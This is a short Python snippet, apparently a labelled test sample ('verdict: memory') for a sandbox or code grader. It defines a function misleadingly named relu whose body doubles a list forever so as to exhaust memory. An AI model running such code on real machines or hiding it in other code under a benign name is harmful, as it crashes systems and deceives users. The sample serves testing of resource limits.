# Take all memory with lists.
# verdict: memory
def relu(z):
    mine = [0]
    while True:
        mine += mine
